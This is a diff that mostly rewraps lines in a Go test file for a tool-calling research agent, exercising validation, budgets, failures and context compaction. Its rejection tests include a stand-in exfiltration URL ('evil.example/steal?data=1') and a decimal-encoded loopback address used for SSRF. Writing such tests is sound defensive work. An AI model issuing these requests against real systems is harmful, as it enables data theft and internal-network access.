@@ -26,7 +26,8 @@ import (
 type unreadable struct{}
 
 func (unreadable) Read(context.Context, string) (citewell.Page, citewell.Document, error) {
-	return citewell.Page{}, citewell.Document{}, &citewell.Error{Code: citewell.CodeRobotsDisallowed, Message: "robots.txt forbids /plant"}
+	return citewell.Page{}, citewell.Document{}, &citewell.Error{
+		Code: citewell.CodeRobotsDisallowed, Message: "robots.txt forbids /plant"}
 }
 
 // shelf is a searcher and reader of pages in memory.
@@ -40,9 +41,12 @@ type shelf struct {
 
 func newShelf() *shelf {
 	return &shelf{pages: map[string]string{
-		"https://heron.example/count": "In the spring of 2024 the wardens counted 312 grey herons at Alder Lake. The colony was founded in 1987.",
-		"https://lake.example/facts":  "Alder Lake covers 48 hectares and is 11 metres deep. Swimming is allowed from May to September.",
-		"https://guide.example/visit": "The hide at Alder Lake opens at seven in the morning. A warden explains the colony on Sundays.",
+		"https://heron.example/count": "In the spring of 2024 the wardens counted 312 grey herons at Alder Lake. The " +
+			"colony was founded in 1987.",
+		"https://lake.example/facts": "Alder Lake covers 48 hectares and is 11 metres deep. Swimming is allowed from " +
+			"May to September.",
+		"https://guide.example/visit": "The hide at Alder Lake opens at seven in the morning. A warden explains the " +
+			"colony on Sundays.",
 	}}
 }
 
@@ -86,13 +90,16 @@ func (s *shelf) Read(ctx context.Context, url string) (citewell.Page, citewell.D
 	}
 	body, ok := s.pages[url]
 	if !ok {
-		return citewell.Page{}, citewell.Document{}, &citewell.Error{Code: citewell.CodeHTTPStatus, Message: "the server answered 404"}
+		return citewell.Page{}, citewell.Document{}, &citewell.Error{
+			Code: citewell.CodeHTTPStatus, Message: "the server answered 404"}
 	}
 	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
 	hash := citewell.SHA256([]byte(body))
-	return citewell.Page{URL: url, FinalURL: url, Status: 200, Body: []byte(body), SHA256: hash, FetchedAt: at, Outcome: citewell.FetchOK},
-		citewell.Document{URL: url, Title: "About", Language: "en", Text: body, TextSHA256: hash, Extractor: citewell.Extractor{ID: "test", Version: 1},
-			Passages: []citewell.Passage{{Start: 0, End: len(body), Text: body}}}, nil
+	return citewell.Page{URL: url, FinalURL: url, Status: 200, Body: []byte(body), SHA256: hash, FetchedAt: at,
+			Outcome: citewell.FetchOK},
+		citewell.Document{URL: url, Title: "About", Language: "en", Text: body, TextSHA256: hash,
+			Extractor: citewell.Extractor{ID: "test", Version: 1},
+			Passages:  []citewell.Passage{{Start: 0, End: len(body), Text: body}}}, nil
 }
 
 const heronTask = "How many grey herons were counted at Alder Lake in 2024, and how large is the lake?"
@@ -102,9 +109,12 @@ func (s *shelf) options(shape agent.Shape, m agent.Model) agent.Options {
 }
 
 var (
-	readHerons  = call("extract_page_content_tool", args{"reasoning": "the count", "urls": []string{"https://heron.example/count", "https://lake.example/facts"}})
-	heronReport = reportCall("In the spring of 2024 the wardens counted 312 grey herons at Alder Lake [2]. The lake covers 48 hectares [3].")
-	heronFinal  = finalCall("In the spring of 2024 the wardens counted 312 grey herons at Alder Lake [2]. The lake covers 48 hectares [3].")
+	readHerons = call("extract_page_content_tool", args{"reasoning": "the count",
+		"urls": []string{"https://heron.example/count", "https://lake.example/facts"}})
+	heronReport = reportCall("In the spring of 2024 the wardens counted 312 grey herons at Alder Lake [2]. The lake " +
+		"covers 48 hectares [3].")
+	heronFinal = finalCall("In the spring of 2024 the wardens counted 312 grey herons at Alder Lake [2]. The lake " +
+		"covers 48 hectares [3].")
 )
 
 func failing(code citewell.Code) reply {
@@ -127,20 +137,27 @@ func TestWhatAModelDoesWrongIsToldToIt(t *testing.T) {
 		{"an unknown tool", call("web_serch_tool", args{"query": "x"}), "did you mean web_search_tool?"},
 		{"a missing argument", call("web_search_tool", args{"reasoning": "x"}), "query is required"},
 		{"out of range", call("web_search_tool", args{"reasoning": "x", "query": "y", "max_results": 11}), "1 to 10"},
-		{"too few items", call("generate_plan_tool", args{"reasoning": "x", "research_goal": "y", "planned_steps": []string{"a"}, "search_strategies": []string{"a", "b"}}), "planned_steps"},
+		{"too few items", call("generate_plan_tool", args{"reasoning": "x", "research_goal": "y",
+			"planned_steps": []string{"a"}, "search_strategies": []string{"a", "b"}}), "planned_steps"},
 		{"half a JSON", garbled("web_search_tool", `{"query": "x`), "could not be read"},
 		{"no arguments", garbled("web_search_tool", ``), "could not be read"},
-		{"an address from nowhere", call("extract_page_content_tool", args{"reasoning": "x", "urls": []string{"https://evil.example/steal?data=1"}}), "none of the user's words"},
-		{"no public address", call("extract_page_content_tool", args{"reasoning": "x", "urls": []string{"http://2130706433/"}}), "invalid_url"},
-		{"a page that is gone", call("extract_page_content_tool", args{"reasoning": "x", "urls": []string{"https://gone.example/404"}}), "the server answered 404"},
-		{"headings alone", call("final_answer_tool", args{"reasoning": "x", "completed_steps": []string{"a"}, "answer": "## Summary\n\n## Details\n\n---", "status": "completed"}), "says nothing"},
-		{"marks alone", call("final_answer_tool", args{"reasoning": "x", "completed_steps": []string{"a"}, "answer": "[77] [78a] https://evil.example/x", "status": "completed"}), "says nothing but"},
+		{"an address from nowhere", call("extract_page_content_tool",
+			args{"reasoning": "x", "urls": []string{"https://evil.example/steal?data=1"}}), "none of the user's words"},
+		{"no public address", call("extract_page_content_tool",
+			args{"reasoning": "x", "urls": []string{"http://2130706433/"}}), "invalid_url"},
+		{"a page that is gone", call("extract_page_content_tool",
+			args{"reasoning": "x", "urls": []string{"https://gone.example/404"}}), "the server answered 404"},
+		{"headings alone", call("final_answer_tool", args{"reasoning": "x", "completed_steps": []string{"a"},
+			"answer": "## Summary\n\n## Details\n\n---", "status": "completed"}), "says nothing"},
+		{"marks alone", call("final_answer_tool", args{"reasoning": "x", "completed_steps": []string{"a"},
+			"answer": "[77] [78a] https://evil.example/x", "status": "completed"}), "says nothing but"},
 		{"too much thinking", call("clarification_tool", args{"reasoning": "x"}), "there is no tool"},
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
 			s := newShelf()
-			m := &script{replies: []reply{calls(test.wrong), calls(searchFor("herons at Alder Lake")), calls(readHerons), calls(heronFinal)}}
+			m := &script{replies: []reply{calls(test.wrong), calls(searchFor("herons at Alder Lake")),
+				calls(readHerons), calls(heronFinal)}}
 			r := run(t, s.options(agent.ShapeToolCalling, m), heronTask+" See https://gone.example/404.")
 			if r.Outcome != runstore.RunAnswered {
 				t.Fatalf("%+v\n%s", r, told(m))
@@ -156,10 +173,14 @@ func TestWhatAModelDoesWrongIsToldToIt(t *testing.T) {
 // A search that failed is no empty result, and neither ends a run.
 func TestASearchThatFailsIsNoEmptyOne(t *testing.T) {
 	s := newShelf()
-	s.fails = &citewell.Error{Code: citewell.CodeAllProvidersFailed, Message: "no provider answered: brave rate_limited"}
-	m := &script{replies: []reply{calls(searchFor("herons")), calls(call("final_answer_tool", args{"reasoning": "x", "completed_steps": []string{"tried"}, "answer": "No source could be searched.", "status": "failed"}))}}
+	s.fails = &citewell.Error{Code: citewell.CodeAllProvidersFailed,
+		Message: "no provider answered: brave rate_limited"}
+	m := &script{replies: []reply{calls(searchFor("herons")),
+		calls(call("final_answer_tool", args{"reasoning": "x", "completed_steps": []string{"tried"},
+			"answer": "No source could be searched.", "status": "failed"}))}}
 	r := run(t, s.options(agent.ShapeToolCalling, m), heronTask)
-	if r.State != runstore.RunFailed || r.Outcome != runstore.RunNoSources || !strings.Contains(m.asked[1].Messages[3].Content, "rate_limited") {
+	if r.State != runstore.RunFailed || r.Outcome != runstore.RunNoSources ||
+		!strings.Contains(m.asked[1].Messages[3].Content, "rate_limited") {
 		t.Errorf("%+v\n%s", r, m.asked[1].Messages[3].Content)
 	}
 	s = newShelf()
@@ -174,7 +195,8 @@ func TestASearchThatFailsIsNoEmptyOne(t *testing.T) {
 // Text instead of a call is a final answer, and passes the same check.
 func TestTextInsteadOfACallIsAFinalAnswer(t *testing.T) {
 	s := newShelf()
-	m := &script{replies: []reply{calls(searchFor("herons at Alder Lake")), words("In 2024 the wardens counted 999 grey herons at Alder Lake [2]."),
+	m := &script{replies: []reply{calls(searchFor("herons at Alder Lake")),
+		words("In 2024 the wardens counted 999 grey herons at Alder Lake [2]."),
 		words("In the spring of 2024 the wardens counted 312 grey herons at Alder Lake [2].")}}
 	r := run(t, s.options(agent.ShapeToolCalling, m), heronTask)
 	if r.Outcome != runstore.RunAnswered || r.State != runstore.RunCompleted || !strings.Contains(r.Answer, "312") {
@@ -188,10 +210,12 @@ func TestSeveralCallsInOneAnswer(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		s := newShelf()
 		s.slow = time.Second
-		m := &script{replies: []reply{calls(searchFor("one"), searchFor("two"), searchFor("one"), call("nothing", nil)), calls(readHerons), calls(heronFinal, searchFor("late"))}}
+		m := &script{replies: []reply{calls(searchFor("one"), searchFor("two"), searchFor("one"), call("nothing", nil)),
+			calls(readHerons), calls(heronFinal, searchFor("late"))}}
 		began := time.Now()
 		r := run(t, s.options(agent.ShapeToolCalling, m), heronTask)
-		if took := time.Since(began); took != 2*time.Second || r.Outcome != runstore.RunAnswered || len(r.Sources) != 3 {
+		if took := time.Since(began); took != 2*time.Second || r.Outcome != runstore.RunAnswered ||
+			len(r.Sources) != 3 {
 			t.Errorf("%v, %+v", took, r)
 		}
 		var ids []string
@@ -208,17 +232,20 @@ func TestSeveralCallsInOneAnswer(t *testing.T) {
 func TestAModelThatFails(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) {
 		s := newShelf()
-		m := &script{replies: []reply{calls(searchFor("herons")), failing(citewell.CodeRateLimited), failing(citewell.CodeTimeout), calls(readHerons),
+		m := &script{replies: []reply{calls(searchFor("herons")), failing(citewell.CodeRateLimited),
+			failing(citewell.CodeTimeout), calls(readHerons),
 			failing(citewell.CodeModelFailed), failing(citewell.CodeModelFailed), failing(citewell.CodeModelFailed)}}
 		r := run(t, s.options(agent.ShapeToolCalling, m), heronTask)
 		if r.State != runstore.RunFailed || r.Outcome != runstore.RunModelFailed || len(m.asked) != 7 {
 			t.Fatalf("%+v after %d", r, len(m.asked))
 		}
-		if !strings.Contains(r.Answer, "312 grey herons") || len(r.Report.Findings) == 0 || r.Reason != "the model said no" {
+		if !strings.Contains(r.Answer, "312 grey herons") || len(r.Report.Findings) == 0 ||
+			r.Reason != "the model said no" {
 			t.Errorf("answer %q, reason %q", r.Answer, r.Reason)
 		}
 		for i, f := range r.Report.Findings { // each in a line of its own
-			if lines := strings.Split(r.Answer, "\n"); len(lines) != len(r.Report.Findings) || !strings.HasPrefix(lines[i], "- “"+f.Text+"” [") {
+			if lines := strings.Split(r.Answer, "\n"); len(lines) != len(r.Report.Findings) ||
+				!strings.HasPrefix(lines[i], "- “"+f.Text+"” [") {
 				t.Errorf("%q has not %q in line %d", r.Answer, f.Text, i+1)
 			}
 		}
@@ -226,20 +253,24 @@ func TestAModelThatFails(t *testing.T) {
 	synctest.Test(t, func(t *testing.T) { // a report that was written stands
 		const count = "In the spring of 2024 the wardens counted 312 grey herons at Alder Lake [2]."
 		s := newShelf()
-		m := &script{replies: []reply{calls(searchFor("herons")), calls(readHerons), calls(reportCall(count)), failing(citewell.CodeModelFailed), failing(citewell.CodeModelFailed), failing(citewell.CodeModelFailed)}}
-		if r := run(t, s.options(agent.ShapeToolCalling, m), heronTask); r.State != runstore.RunFailed || r.Outcome != runstore.RunModelFailed || r.Answer != count {
+		m := &script{replies: []reply{calls(searchFor("herons")), calls(readHerons), calls(reportCall(count)),
+			failing(citewell.CodeModelFailed), failing(citewell.CodeModelFailed), failing(citewell.CodeModelFailed)}}
+		if r := run(t, s.options(agent.ShapeToolCalling, m), heronTask); r.State != runstore.RunFailed ||
+			r.Outcome != runstore.RunModelFailed || r.Answer != count {
 			t.Errorf("%s, %s: %q", r.State, r.Outcome, r.Answer)
 		}
 	})
 	s := newShelf()
 	for _, code := range []citewell.Code{citewell.CodeAuth, citewell.CodeNotRecorded} { // another try helps nothing
 		m := &script{replies: []reply{failing(code)}}
-		if r := run(t, s.options(agent.ShapeToolCalling, m), heronTask); r.Outcome != runstore.RunModelFailed || len(m.asked) != 1 || r.Answer == "" {
+		if r := run(t, s.options(agent.ShapeToolCalling, m), heronTask); r.Outcome != runstore.RunModelFailed ||
+			len(m.asked) != 1 || r.Answer == "" {
 			t.Errorf("%+v after %d", r, len(m.asked))
 		}
 	}
 	m := &script{replies: []reply{words(" "), words(""), words("")}}
-	if r := run(t, s.options(agent.ShapeToolCalling, m), heronTask); r.Outcome != runstore.RunModelFailed || len(m.asked) != 3 {
+	if r := run(t, s.options(agent.ShapeToolCalling, m), heronTask); r.Outcome != runstore.RunModelFailed ||
+		len(m.asked) != 3 {
 		t.Errorf("%+v after %d", r, len(m.asked))
 	}
 }
@@ -254,15 +285,18 @@ func TestAnswersThatFailAreCounted(t *testing.T) {
 	}
 	synctest.Test(t, func(t *testing.T) {
 		s := newShelf()
-		m := &script{replies: []reply{cut(agent.Reply{InputTokens: 700, CachedTokens: 100, OutputTokens: 80}), failing(citewell.CodeTimeout), calls(searchFor("herons")),
+		m := &script{replies: []reply{cut(agent.Reply{InputTokens: 700, CachedTokens: 100, OutputTokens: 80}),
+			failing(citewell.CodeTimeout), calls(searchFor("herons")),
 			cut(agent.Reply{Text: strings.Repeat("on ", 20)}), calls(readHerons), calls(heronFinal)}}
 		o := s.options(agent.ShapeToolCalling, m)
 		o.Price = llm.Price{Input: 1, Output: 2}
 		r := run(t, o, heronTask)
-		if r.Outcome != runstore.RunAnswered || r.Usage.OutputTokens != 80+20+3*20 || r.Usage.InputTokens <= 700+3*100 || len(m.asked) != 6 {
+		if r.Outcome != runstore.RunAnswered || r.Usage.OutputTokens != 80+20+3*20 ||
+			r.Usage.InputTokens <= 700+3*100 || len(m.asked) != 6 {
 			t.Errorf("%s after %d answers with usage %+v", r.Outcome, len(m.asked), r.Usage)
 		}
-		if again := run(t, o, heronTask); again.Usage.InputTokens != r.Usage.InputTokens || again.Usage.OutputTokens != r.Usage.OutputTokens || again.Usage.USD != r.Usage.USD || len(m.asked) != 6 {
+		if again := run(t, o, heronTask); again.Usage.InputTokens != r.Usage.InputTokens ||
+			again.Usage.OutputTokens != r.Usage.OutputTokens || again.Usage.USD != r.Usage.USD || len(m.asked) != 6 {
 			t.Errorf("replayed: usage %+v, was %+v", again.Usage, r.Usage)
 		}
 	})
@@ -271,7 +305,8 @@ func TestAnswersThatFailAreCounted(t *testing.T) {
 		o := newShelf().options(agent.ShapeToolCalling, m)
 		o.Limits.MaxTokens, o.Budget.Tokens = 1000, 30_000
 		r := run(t, o, heronTask)
-		if spent := r.Usage.InputTokens + r.Usage.OutputTokens; r.Outcome == runstore.RunAnswered || spent > 30_000 || spent < 20_000 {
+		if spent := r.Usage.InputTokens + r.Usage.OutputTokens; r.Outcome == runstore.RunAnswered || spent > 30_000 ||
+			spent < 20_000 {
 			t.Errorf("%s with %d tokens", r.Outcome, spent)
 		}
 	})
@@ -338,9 +373,11 @@ func names(q agent.Request) string {
 func TestAQuestionThatNobodyReadsIsSentBack(t *testing.T) {
 	s := newShelf()
 	ask := func(question string) agent.ToolCall {
-		return call("clarification_tool", args{"reasoning": "which lake", "unclear_terms": []string{"lake"}, "assumptions": []string{"a", "b"}, "questions": []string{question}})
+		return call("clarification_tool", args{"reasoning": "which lake", "unclear_terms": []string{"lake"},
+			"assumptions": []string{"a", "b"}, "questions": []string{question}})
 	}
-	m := &script{replies: []reply{calls(ask(strings.Repeat("Which lake? ", 2_000))), calls(ask("Which lake?")), calls(searchFor("a")), calls(readHerons), calls(heronFinal)}}
+	m := &script{replies: []reply{calls(ask(strings.Repeat("Which lake? ", 2_000))), calls(ask("Which lake?")),
+		calls(searchFor("a")), calls(readHerons), calls(heronFinal)}}
 	o := s.options(agent.ShapeToolCalling, m)
 	o.Limits.MaxClarifications = 1
 	var put []string
@@ -356,16 +393,22 @@ func TestAQuestionThatNobodyReadsIsSentBack(t *testing.T) {
 
 func TestWhatIsOfferedFollowsTheLimits(t *testing.T) {
 	s := newShelf()
-	ask := call("clarification_tool", args{"reasoning": "which lake", "unclear_terms": []string{"lake"}, "assumptions": []string{"a", "b"}, "questions": []string{"Which lake?"}})
-	m := &script{replies: []reply{calls(ask), calls(searchFor("a")), calls(searchFor("b")), calls(readHerons), calls(searchFor("c")), calls(heronFinal)}}
+	ask := call("clarification_tool", args{"reasoning": "which lake", "unclear_terms": []string{"lake"},
+		"assumptions": []string{"a", "b"}, "questions": []string{"Which lake?"}})
+	m := &script{replies: []reply{calls(ask), calls(searchFor("a")), calls(searchFor("b")), calls(readHerons),
+		calls(searchFor("c")), calls(heronFinal)}}
 	o := s.options(agent.ShapeToolCalling, m)
 	o.Limits = agent.Limits{MaxIterations: 6, MaxClarifications: 1, MaxSearches: 2}
 	o.Ask = func(context.Context, agent.Question) (string, error) { return "Alder Lake", nil }
-	o.Extra = []*tool.Tool{tool.New(tool.Spec{Name: "archive_search", Description: "Searches.", Hints: tool.Hints{ReadOnly: true}}, func(context.Context, struct{}) (struct{}, error) { return struct{}{}, nil })}
+	o.Extra = []*tool.Tool{tool.New(tool.Spec{Name: "archive_search", Description: "Searches.",
+		Hints: tool.Hints{ReadOnly: true}}, func(context.Context, struct{}) (struct{}, error) {
+		return struct{}{}, nil
+	})}
 	o.Searching = []string{"archive_search"}
 	r := run(t, o, heronTask)
 	want := []string{
-		"generate_plan adapt_plan clarification web_search extract_page_content create_report final_answer archive_search",
+		"generate_plan adapt_plan clarification web_search extract_page_content create_report final_answer " +
+			"archive_search",
 		"generate_plan adapt_plan web_search extract_page_content create_report final_answer archive_search",
 		"generate_plan adapt_plan web_search extract_page_content create_report final_answer archive_search",
 		"generate_plan adapt_plan extract_page_content create_report final_answer",
@@ -380,7 +423,8 @@ func TestWhatIsOfferedFollowsTheLimits(t *testing.T) {
 	if r.Outcome != runstore.RunAnswered || r.Usage.Searches != 2 || r.Clarifications != 1 || s.searches.Load() != 2 {
 		t.Errorf("%+v", r)
 	}
-	if last := m.asked[1].Messages; last[len(last)-1].Role != agent.RoleUser || !strings.Contains(last[len(last)-1].Content, "Alder Lake") || last[len(last)-2].Content != "Which lake?" {
+	if last := m.asked[1].Messages; last[len(last)-1].Role != agent.RoleUser ||
+		!strings.Contains(last[len(last)-1].Content, "Alder Lake") || last[len(last)-2].Content != "Which lake?" {
 		t.Errorf("after the answer: %+v", last[len(last)-2:])
 	}
 }
@@ -390,7 +434,9 @@ func TestStepsThatAreUsedUp(t *testing.T) {
 	s := newShelf()
 	var replies []reply
 	for i := range 20 {
-		replies = append(replies, calls(searchFor(fmt.Sprint("herons ", i)), call("extract_page_content_tool", args{"reasoning": fmt.Sprint(i), "urls": []string{"https://heron.example/count"}})))
+		replies = append(replies, calls(searchFor(fmt.Sprint("herons ", i)),
+			call("extract_page_content_tool", args{"reasoning": fmt.Sprint(i),
+				"urls": []string{"https://heron.example/count"}})))
 	}
 	o := s.options(agent.ShapeToolCalling, &script{replies: replies})
 	o.Limits.MaxIterations = 3
@@ -422,7 +468,8 @@ func TestStepsThatBringNothingNew(t *testing.T) {
 func TestBudgetsAreWalls(t *testing.T) {
 	counting := func(in int) reply {
 		return func(q agent.Request) (agent.Reply, error) {
-			return agent.Reply{Calls: []agent.ToolCall{searchFor(fmt.Sprint("herons ", len(q.Messages))), readHerons}, InputTokens: in, OutputTokens: 10}, nil
+			return agent.Reply{Calls: []agent.ToolCall{searchFor(fmt.Sprint("herons ", len(q.Messages))), readHerons},
+				InputTokens: in, OutputTokens: 10}, nil
 		}
 	}
 	many := []reply{counting(9000), counting(9000), counting(9000), counting(9000), counting(9000), counting(9000)}
@@ -431,7 +478,8 @@ func TestBudgetsAreWalls(t *testing.T) {
 		o := newShelf().options(agent.ShapeToolCalling, m)
 		o.Budget.Tokens, o.Limits.MaxTokens = 50_000, 1000
 		r := run(t, o, heronTask)
-		if spent := r.Usage.InputTokens + r.Usage.OutputTokens; r.Outcome != runstore.RunOverBudget || spent > 50_000 || names(m.asked[len(m.asked)-1]) != "create_report final_answer" || !strings.Contains(r.Answer, "312") {
+		if spent := r.Usage.InputTokens + r.Usage.OutputTokens; r.Outcome != runstore.RunOverBudget || spent > 50_000 ||
+			names(m.asked[len(m.asked)-1]) != "create_report final_answer" || !strings.Contains(r.Answer, "312") {
 			t.Errorf("%d tokens, %+v", spent, r)
 		}
 	})
@@ -447,14 +495,16 @@ func TestBudgetsAreWalls(t *testing.T) {
 		synctest.Test(t, func(t *testing.T) {
 			s := newShelf()
 			s.slow = 20 * time.Second
-			ask := call("clarification_tool", args{"reasoning": "which", "unclear_terms": []string{"lake"}, "assumptions": []string{"a", "b"}, "questions": []string{"Which?"}})
+			ask := call("clarification_tool", args{"reasoning": "which", "unclear_terms": []string{"lake"},
+				"assumptions": []string{"a", "b"}, "questions": []string{"Which?"}})
 			m := &script{replies: append([]reply{calls(ask)}, many...)}
 			o := s.options(agent.ShapeToolCalling, m)
 			o.Budget.WallTime = time.Minute
 			o.Ask = func(context.Context, agent.Question) (string, error) { time.Sleep(time.Hour); return "Alder", nil }
 			began := time.Now()
 			r := run(t, o, heronTask)
-			if took := time.Since(began) - time.Hour; took > time.Minute || r.Outcome != runstore.RunOverBudget || r.Usage.ActiveMS > 60_000 {
+			if took := time.Since(began) - time.Hour; took > time.Minute || r.Outcome != runstore.RunOverBudget ||
+				r.Usage.ActiveMS > 60_000 {
 				t.Errorf("%v, %+v", took, r)
 			}
 		})
@@ -465,7 +515,8 @@ func TestBudgetsAreWalls(t *testing.T) {
 		o := s.options(agent.ShapeToolCalling, m)
 		o.Budget.Searches, o.Budget.Fetches = 1, 1
 		r := run(t, o, heronTask)
-		if s.searches.Load() != 1 || s.reads.Load() != 1 || names(m.asked[2]) != "generate_plan adapt_plan create_report final_answer" {
+		if s.searches.Load() != 1 || s.reads.Load() != 1 || names(m.asked[2]) != "generate_plan adapt_plan "+
+			"create_report final_answer" {
 			t.Errorf("%d searches, %d reads, offered %q, %+v", s.searches.Load(), s.reads.Load(), names(m.asked[2]), r)
 		}
 	})
@@ -480,7 +531,8 @@ func TestAModelThatHangs(t *testing.T) {
 		o.Budget.WallTime = time.Minute
 		began := time.Now()
 		r := run(t, o, heronTask)
-		if took := time.Since(began); took > time.Minute+time.Second || r.Outcome != runstore.RunOverBudget || !strings.Contains(r.Answer, "312") {
+		if took := time.Since(began); took > time.Minute+time.Second || r.Outcome != runstore.RunOverBudget ||
+			!strings.Contains(r.Answer, "312") {
 			t.Errorf("%v, %+v", took, r)
 		}
 	})
@@ -504,7 +556,8 @@ func TestWhatHappensIsTold(t *testing.T) {
 		q.Heard(agent.Delta{Text: `{"query":`, Call: "web_search_tool"})
 		return calls(searchFor("herons"))(q)
 	}
-	o := s.options(agent.ShapeToolCalling, &script{replies: []reply{speaking, calls(readHerons), calls(finalCall("There were 999 grey herons [2].")), calls(heronFinal)}})
+	o := s.options(agent.ShapeToolCalling, &script{replies: []reply{
+		speaking, calls(readHerons), calls(finalCall("There were 999 grey herons [2].")), calls(heronFinal)}})
 	var told []string
 	var numbers []int
 	o.Tell = func(e agent.Event) {
@@ -514,7 +567,9 @@ func TestWhatHappensIsTold(t *testing.T) {
 		}
 	}
 	run(t, o, heronTask)
-	want := "state, delta action, call 1-action, source, source, source, result 1-action, spent, call 2-action, read, fetch, read, fetch, result 2-action, spent, " +
+	want := "state, delta action, call 1-action, source, source, source, result 1-action, spent, call " +
+		"2-action, read, " +
+		"fetch, read, fetch, result 2-action, spent, " +
 		"call 3-action, rejected, result 3-action, spent, call 3-action.2, state, over, result 3-action.2, spent"
 	if got := strings.Join(told, ", "); got != want || !slices.Equal(numbers, []int{1, 2, 3}) {
 		t.Errorf("told %s\nwant %s\nnumbers %v", got, want, numbers)
@@ -525,13 +580,17 @@ func TestWhatHappensIsTold(t *testing.T) {
 func TestCancelledAndBroken(t *testing.T) {
 	s := newShelf()
 	ctx, cancel := context.WithCancel(t.Context())
-	m := &script{replies: []reply{calls(searchFor("a")), func(agent.Request) (agent.Reply, error) { cancel(); return agent.Reply{}, context.Canceled }}}
+	m := &script{replies: []reply{calls(searchFor("a")), func(agent.Request) (agent.Reply, error) {
+		cancel()
+		return agent.Reply{}, context.Canceled
+	}}}
 	a, err := agent.New(s.options(agent.ShapeToolCalling, m))
 	if err != nil {
 		t.Fatal(err)
 	}
 	r, err := a.Run(ctx, agent.Task{Text: heronTask})
-	if r.State != runstore.RunCancelled || r.Outcome != runstore.RunOutcomeCancelled || !errors.Is(err, context.Canceled) {
+	if r.State != runstore.RunCancelled || r.Outcome != runstore.RunOutcomeCancelled ||
+		!errors.Is(err, context.Canceled) {
 		t.Errorf("%+v, %v", r, err)
 	}
 	for at, searches := range map[string]int32{"lookup": 0, "begin": 0, "finish": 1} {
@@ -542,7 +601,8 @@ func TestCancelledAndBroken(t *testing.T) {
 			t.Fatal(err)
 		}
 		before := s.searches.Load()
-		if r, err = a.Run(t.Context(), agent.Task{Text: heronTask}); !errors.Is(err, errDisk) || r.State != runstore.RunError || s.searches.Load() != before+searches {
+		if r, err = a.Run(t.Context(), agent.Task{Text: heronTask}); !errors.Is(err, errDisk) ||
+			r.State != runstore.RunError || s.searches.Load() != before+searches {
 			t.Errorf("%s: %+v, %v", at, r, err)
 		}
 	}
@@ -583,16 +643,21 @@ func (b brokenJournal) Finish(ctx context.Context, c agent.Call, e agent.Entry) 
 func TestOlderStepsAreCompacted(t *testing.T) {
 	s := newShelf()
 	for i := range 40 {
-		s.pages[fmt.Sprintf("https://site%02d.example/", i)] = strings.Repeat("The reeds at the lake were cut in winter by the wardens of the trust. ", 60)
+		s.pages[fmt.Sprintf("https://site%02d.example/", i)] = strings.Repeat("The reeds at the lake were cut in "+
+			"winter by the wardens of the trust. ", 60)
 	}
 	var replies []reply
 	task := heronTask
 	for i := range 12 {
 		task += fmt.Sprintf(" https://site%02d.example/", i)
-		replies = append(replies, calls(searchFor(fmt.Sprint("reeds ", i)), call("extract_page_content_tool", args{"reasoning": fmt.Sprint(i), "urls": []string{fmt.Sprintf("https://site%02d.example/", i)}})))
+		replies = append(replies, calls(searchFor(fmt.Sprint("reeds ", i)),
+			call("extract_page_content_tool", args{"reasoning": fmt.Sprint(i),
+				"urls": []string{fmt.Sprintf("https://site%02d.example/", i)}})))
 	}
-	final := calls(call("final_answer_tool", args{"reasoning": "x", "completed_steps": []string{"read"}, "answer": "Nothing in these sources answers the task.", "status": "failed"}))
-	m := &script{window: 9000, replies: append(append([]reply{calls(searchFor("reeds"))}, replies...), calls(readHerons), final)}
+	final := calls(call("final_answer_tool", args{"reasoning": "x", "completed_steps": []string{"read"},
+		"answer": "Nothing in these sources answers the task.", "status": "failed"}))
+	m := &script{window: 9000, replies: append(append([]reply{calls(searchFor("reeds"))}, replies...),
+		calls(readHerons), final)}
 	o := s.options(agent.ShapeToolCalling, m)
 	o.Limits = agent.Limits{MaxIterations: 30, MaxSearches: 20, MaxResults: 10, MaxTokens: 500, ContentLimit: 3000}
 	o.Budget.Tokens = -1
@@ -633,7 +698,9 @@ func TestOlderStepsAreCompacted(t *testing.T) {
 	}
 	for _, source := range r.Sources {
 		shown := fmt.Sprintf("[%d] ", source.N)
-		if !slices.ContainsFunc(m.asked[len(m.asked)-1].Messages, func(m agent.Message) bool { return strings.Contains(m.Content, shown) }) {
+		if !slices.ContainsFunc(m.asked[len(m.asked)-1].Messages, func(m agent.Message) bool {
+			return strings.Contains(m.Content, shown)
+		}) {
 			t.Errorf("source %d is shown no more", source.N)
 		}
 	}
@@ -648,10 +715,12 @@ func TestNoMoreIsCompactedThanHasToBe(t *testing.T) {
 		page := fmt.Sprintf("https://site%d.example/", i)
 		s.pages[page] = strings.Repeat("The reeds at the lake were cut in winter by the wardens of the trust. ", 30)
 		task += " " + page
-		steps = append(steps, calls(call("extract_page_content_tool", args{"reasoning": strings.Repeat("to read it ", 60), "urls": []string{page}})))
+		steps = append(steps, calls(call("extract_page_content_tool",
+			args{"reasoning": strings.Repeat("to read it ", 60), "urls": []string{page}})))
 	}
 	asked := func(window int) []agent.Message {
-		m := &script{window: window, replies: append(slices.Clone(steps), calls(finalCall("Nothing in these sources answers the task.")))}
+		m := &script{window: window, replies: append(slices.Clone(steps),
+			calls(finalCall("Nothing in these sources answers the task.")))}
 		o := s.options(agent.ShapeToolCalling, m)
 		o.Limits.ContentLimit, o.Limits.MaxTokens, o.Budget.Tokens = 3000, 500, -1
 		run(t, o, task)
@@ -660,7 +729,9 @@ func TestNoMoreIsCompactedThanHasToBe(t *testing.T) {
 	whole := asked(100_000)
 	changed := func(window int) (list []int) {
 		for i, m := range asked(window) {
-			if len(m.Content) != len(whole[i].Content) || len(m.Calls) > 0 && len(m.Calls[0].Arguments) != len(whole[i].Calls[0].Arguments) { // the marks around foreign words are of chance
+			// the marks around foreign words are of chance
+			if len(m.Content) != len(whole[i].Content) || len(m.Calls) > 0 &&
+				len(m.Calls[0].Arguments) != len(whole[i].Calls[0].Arguments) {
 				list = append(list, i)
 			}
 		}
@@ -679,8 +750,10 @@ func TestNoMoreIsCompactedThanHasToBe(t *testing.T) {
 			cut = append(cut, i)
 		}
 	}
-	if all := changed(window); !slices.Equal(all, cut) || len(some) == 0 || len(some) >= len(cut)-1 || !slices.Equal(some, cut[1:1+len(some)]) {
-		t.Errorf("messages %d were changed first, and then %d; the system's and the older long results are %d", some, all, cut)
+	if all := changed(window); !slices.Equal(all, cut) || len(some) == 0 || len(some) >= len(cut)-1 ||
+		!slices.Equal(some, cut[1:1+len(some)]) {
+		t.Errorf("messages %d were changed first, and then %d; the system's and the older long results are %d",
+			some, all, cut)
 	}
 }
 
